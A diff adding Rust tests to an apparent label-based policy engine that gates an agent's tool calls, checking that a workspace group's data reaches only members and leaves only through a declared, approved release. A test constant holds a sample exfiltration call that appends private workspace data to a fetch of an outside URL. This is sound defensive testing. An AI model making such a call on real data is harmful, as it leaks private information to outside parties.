@@ -765,3 +765,95 @@ fn a_card_that_releases_a_secret_and_needs_consent_shows_every_value_masked() {
     }
     assert_eq!(host.0, ["my tooth hurts; see you at 10"], "a yes sends it as it is");
 }
+
+/// A workspace whose data goes to the web only through a release, with `release` in the policy.
+fn workspace_policy(release: &str) -> String {
+    format!(
+        r#"
+capability Chat {{
+  tool read() -> String
+    @label(returns = group("workspace", ["ann", "bob", "carol"]))
+  tool fetch(url: String)
+    @label(url = untrusted(), pc = untrusted())
+    @card(destination = url)
+  tool dm(to: String, text: String)
+    @label(to = endorsed(user()), text = readers([user(), to]), pc = endorsed(user()))
+}}
+{release}
+entry(chat: Chat) -> ()
+"#
+    )
+}
+
+/// Answers `read` with the workspace's news, and records every other call's arguments.
+#[derive(Default)]
+struct Workspace(Vec<String>);
+
+impl ToolHost for Workspace {
+    fn perform(&mut self, call: &ToolCall<'_>) -> Result<Json, String> {
+        match call.tool() {
+            "read" => Ok(Json::String("launch on friday".into())),
+            tool => {
+                self.0.push(format!("{tool} {}", serde_json::to_string(&call.args).unwrap()));
+                Ok(Json::Null)
+            }
+        }
+    }
+}
+
+/// Runs `plan` under `release`, the approver answering `answer`: what was performed, the cards
+/// shown, and how the run ended.
+fn in_workspace(release: &str, plan: &str, answer: Answer) -> (Vec<String>, Vec<Card>, Ending) {
+    let program = program(&workspace_policy(release), plan);
+    let mut approver = Watching { answer, seen: Vec::new() };
+    let mut host = Workspace::default();
+    let ending = {
+        let mut gate = Gate::new(&program, "ann", Box::new(&mut approver));
+        drive(&program, "ann", &mut host, &mut gate)
+    };
+    (host.0, approver.seen, ending)
+}
+
+const LEAK: &str = r#"chat.fetch("https://example.com/?q=" + chat.read())"#;
+
+#[test]
+fn a_groups_data_reaches_its_members_and_no_one_else_whoever_approves() {
+    let (sent, cards, _) = in_workspace("", r#"chat.dm("bob", chat.read())"#, Answer::Yes);
+    assert_eq!((sent.len(), cards.len()), (1, 0), "a member reads it: no card");
+    // A member's yes does not release it: no card is even shown.
+    for plan in [LEAK, r#"chat.dm("eve", chat.read())"#] {
+        let (sent, cards, ending) = in_workspace("", plan, Answer::Yes);
+        assert!(sent.is_empty() && cards.is_empty(), "{plan}: {sent:?} {cards:?}");
+        assert_eq!(failed(ending).kind.code().as_str(), "label-flow", "{plan}");
+    }
+}
+
+#[test]
+fn a_release_with_a_card_lets_the_groups_data_out_on_the_users_yes_for_that_call() {
+    let release = r#"release "workspace" to untrusted()"#;
+    let (sent, cards, _) = in_workspace(release, LEAK, Answer::Yes);
+    assert_eq!(sent.len(), 1, "{sent:?}");
+    let [card] = cards.as_slice() else { panic!("one card: {cards:?}") };
+    assert!(!card.grantable, "a release is for this call only");
+    let meaning: Vec<&str> = card.flows.iter().map(|f| f.meaning.as_str()).collect();
+    assert!(
+        meaning.iter().any(|m| m.contains("you let the data of the group `workspace` out to anyone")),
+        "{meaning:?}"
+    );
+    let (sent, cards, ending) = in_workspace(release, LEAK, Answer::No);
+    assert!(sent.is_empty() && cards.len() == 1, "{sent:?}");
+    assert_eq!(failed(ending).kind.code().as_str(), "approval-denied");
+    // Another group's data, or the group's to where the release does not say, stays in.
+    let elsewhere = r#"release "workspace" to secret("ci")"#;
+    let (sent, cards, _) = in_workspace(elsewhere, LEAK, Answer::Yes);
+    assert!(sent.is_empty() && cards.is_empty(), "{sent:?} {cards:?}");
+    let other = r#"release "hr" to untrusted()"#;
+    let (sent, cards, _) = in_workspace(other, LEAK, Answer::Yes);
+    assert!(sent.is_empty() && cards.is_empty(), "{sent:?} {cards:?}");
+}
+
+#[test]
+fn a_release_no_one_need_agree_to_lets_it_out_without_a_card() {
+    let (sent, cards, _) = in_workspace(r#"release "workspace" to untrusted() @approval(none)"#, LEAK, Answer::No);
+    assert_eq!((sent.len(), cards.len()), (1, 0), "{sent:?} {cards:?}");
+}
